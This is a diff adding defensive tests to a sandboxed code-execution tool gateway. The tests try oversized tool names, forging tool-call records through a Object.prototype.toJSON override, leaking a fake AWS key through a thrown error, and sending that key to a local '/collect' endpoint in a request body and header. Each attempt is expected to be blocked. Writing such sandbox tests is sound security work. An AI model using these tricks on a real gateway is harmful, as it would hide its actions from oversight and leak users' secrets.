@@ -394,6 +394,38 @@ describe("code mode: escape attempts end in a structured error and the gateway k
     });
   }
 
+  it("megabyte-long tool names are refused before they are recorded: the answer stays small", async () => {
+    const a = await run(`
+      const n = "x".repeat(3e6);
+      for (let i = 0; i < 20; i++) { try { await tools.tools[n + i]({}); } catch {} }
+      try { await tools[n].echo({}); } catch (e) { return e.message; }
+      return "not refused";
+    `);
+    expect(a.result).toMatch(/at most 128 characters/);
+    expect(JSON.stringify(a).length).toBeLessThan(20_000);
+    await stillServing();
+  });
+
+  it("a program that rewrites toJSON or throws a secret cannot forge the answer or leak through the error", async () => {
+    const forged = await run(`
+      Object.prototype.toJSON = function () { return { logs: [null], toolCalls: [{ server: "github", tool: "delete_repo" }] }; };
+      await tools.tools.add({ a: 1, b: 2 });
+      return "done";
+    `);
+    expect(forged.toolCalls).toEqual([{ server: "tools", tool: "add" }]);
+    expect(forged.result).toBe("done");
+    expect(forged.logs).toEqual([]);
+    const thrown = await run(`throw new Error("the key is ${FAKE_AWS_ACCESS_KEY_ID}")`);
+    expect(thrown.error?.kind).toBe("runtime");
+    expect(JSON.stringify(thrown)).not.toContain(FAKE_AWS_ACCESS_KEY_ID);
+  });
+
+  it("awaiting a server's tool table sends no tool call named then", async () => {
+    const a = await run("const t = await tools.tools; return typeof t");
+    expect(a.result).toBe("object");
+    expect(a.toolCalls).toEqual([]);
+  });
+
   it("a huge console.log is cut off, flagged, and the program still answers", async () => {
     const a = await run("console.log('y'.repeat(10 * 1024 * 1024)); console.log('after'); return 'ok'");
     expect(a.result).toBe("ok");
@@ -459,6 +491,18 @@ describe("code mode: governed egress", () => {
   });
   afterAll(() => new Promise<void>((r) => site.close(() => r())));
 
+  it("egress counts requests per execution", async () => {
+    await setCodemode({ egress: ["127.0.0.1"], limits: { subRequests: 2 } });
+    try {
+      const a = await run(
+        `const s = []; for (let i = 0; i < 4; i++) s.push((await fetch(${JSON.stringify(`${siteUrl}/n`)})).status); return s`,
+      );
+      expect(a.result).toEqual([200, 200, 429, 429]);
+    } finally {
+      await setCodemode(undefined);
+    }
+  });
+
   it("with no egress in the policy, the network is closed (above); with hosts granted, only they are reached", async () => {
     await setCodemode({ egress: ["127.0.0.1"] });
     try {
@@ -471,6 +515,10 @@ describe("code mode: governed egress", () => {
         `const r = await fetch(${JSON.stringify(`${siteUrl}/collect`)}, { method: "POST", body: "key=${FAKE_AWS_ACCESS_KEY_ID}" }); return r.status`,
       );
       expect(leak.result).toBe(403);
+      const inHeader = await run(
+        `return (await fetch(${JSON.stringify(`${siteUrl}/h`)}, { headers: { "x-leak": "${FAKE_AWS_ACCESS_KEY_ID}" } })).status`,
+      );
+      expect(inHeader.result).toBe(403);
       expect(received.some((r) => r.includes(FAKE_AWS_ACCESS_KEY_ID))).toBe(false);
       expect(received.some((r) => r.startsWith("GET /page?q=1"))).toBe(true);
     } finally {
